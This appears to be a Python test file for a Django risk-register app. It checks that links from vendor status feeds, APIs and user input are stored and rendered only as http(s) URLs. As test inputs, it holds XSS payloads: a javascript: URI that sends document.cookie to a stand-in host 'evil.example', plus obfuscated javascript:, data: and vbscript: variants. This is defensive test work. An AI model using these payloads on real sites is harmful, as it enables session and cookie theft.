"""Links from the outside world are http(s) or nothing: when stored, when typed and when rendered."""

import pytest
from django.template import Context, Template

from riskregister.alerts import content
from riskregister.alerts.dispatch import alerts_dispatch_pending, batch_dispatch
from tests.api.conftest import client_for
from tests.factories import DependencyFactory, OfferingFactory, StatusChangeFactory, VendorFactory
from tests.vendors import payloads
from tests.vendors.helpers import ChangingAnswer, check, make_source
from vendors.links import http_link

pytestmark = pytest.mark.django_db

HOSTILE = "javascript:fetch('https://evil.example/?c='+document.cookie)"


@pytest.mark.parametrize("link", [
    HOSTILE, "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "https://", "ftp://x.example/",
    "https://x.example/\x00", "/teams/a/", "", None, 42,
])
def test_anything_but_an_absolute_http_link_is_dropped(link):
    assert http_link(link) == ""


@pytest.mark.parametrize("link", ["https://status.example.com/incidents/1", "http://x.example", "HTTPS://X.EXAMPLE/a?b=c#d"])
def test_http_links_are_kept(link):
    assert http_link(link) == link


def _rss(link: str) -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Status</title><link>https://status.example.com/</link>
  <item><title>Increased error rates</title><link>{link}</link><guid isPermaLink="false">evt-1</guid>
    <description>We are investigating increased error rates.</description></item>
</channel></rss>""".encode()


def test_a_feed_entry_with_a_javascript_link_is_stored_and_shown_without_it(httpserver, client, lead_a, team_a):
    vendor = VendorFactory(slug="acme", name="Acme AI")
    offering = OfferingFactory(distributor=vendor)
    DependencyFactory(team=team_a, offering=offering)
    feed = ChangingAnswer(httpserver, "/status.rss", _rss("javascript:alert(document.cookie)"), "application/rss+xml")
    source = make_source("feed", feed.url, vendor=vendor)
    result, changes = check(source)
    assert result.ok and len(changes) == 1
    assert changes[0].link == ""
    alerts_dispatch_pending()  # the team page reads the reach the dispatcher stores

    client.force_login(lead_a)
    page = client.get("/teams/team-a/").content.decode()
    assert "Increased error rates" in page
    assert "javascript:" not in page


def test_a_status_page_shortlink_that_is_not_http_is_dropped(httpserver):
    vendor = VendorFactory(slug="acme", name="Acme AI")
    api = OfferingFactory(distributor=vendor)
    incident = payloads.statuspage_incident("inc-hostile-1", "Elevated errors on the API", components=["Acme API"])
    incident["shortlink"] = HOSTILE
    page = ChangingAnswer(httpserver, "/api/v2/summary.json", payloads.statuspage_summary({"Acme API": "operational"}))
    source = make_source("statuspage", page.url, vendor=vendor, config={"components": {"Acme API": [api.id]}})
    check(source)  # the baseline
    page.body = payloads.statuspage_summary({"Acme API": "major_outage"}, incidents=[incident])
    _, changes = check(source)
    incidents = [change for change in changes if change.kind == "incident"]
    assert incidents, [change.kind for change in changes]
    assert all("javascript" not in change.link for change in changes)
    assert "javascript" not in str(source.state)


def test_a_link_stored_before_the_rule_is_not_clickable_on_the_page_or_in_the_email(client, lead_a, team_a):
    offering = OfferingFactory()
    DependencyFactory(team=team_a, offering=offering)
    old = StatusChangeFactory(offering=offering, title="Old incident", link=HOSTILE,  # written around the rule
                              previous_value="operational", current_value="major_outage")
    batch_dispatch(batch=old.batch)  # the team page reads the reach the dispatcher stores
    client.force_login(lead_a)
    page = client.get("/teams/team-a/").content.decode()
    assert "Old incident" in page and "javascript:" not in page

    message = content.change_alert(team=team_a, changes=[old], affected=[])
    assert "Old incident" in message.html
    assert "javascript:" not in message.html and "javascript:" not in message.text


def test_a_person_typing_a_javascript_link_gets_a_400_naming_link(reviewer):
    offering = OfferingFactory()
    body = {"offering": offering.id, "kind": "status", "current_value": "major_outage", "title": "Outage",
            "severity": "major", "link": "javascript:alert(1)"}
    response = client_for(reviewer).post("/api/v1/status-changes/", body, format="json")
    assert response.status_code == 400
    assert "link" in response.json()["error"]["fields"]
    ok = client_for(reviewer).post("/api/v1/status-changes/", {**body, "link": "https://status.example.com/i/1"}, format="json")
    assert ok.status_code == 201


def test_the_filter_renders_only_http_links():
    template = Template('{% load links %}<a href="{{ link|http_href }}">x</a>')
    assert template.render(Context({"link": HOSTILE})) == '<a href="">x</a>'
    assert template.render(Context({"link": "https://a.example/?q=1&r=2"})) == '<a href="https://a.example/?q=1&amp;r=2">x</a>'


@pytest.mark.parametrize("website", ["ftp://files.example.com/acme", "javascript:alert(1)"])
def test_a_vendor_website_that_is_not_http_is_a_400_naming_it(admin, website):
    response = client_for(admin).post("/api/v1/vendors/", {"name": "Acme", "slug": "acme", "website": website},
                                      format="json")
    assert response.status_code == 400
    assert "website" in response.json()["error"]["fields"]
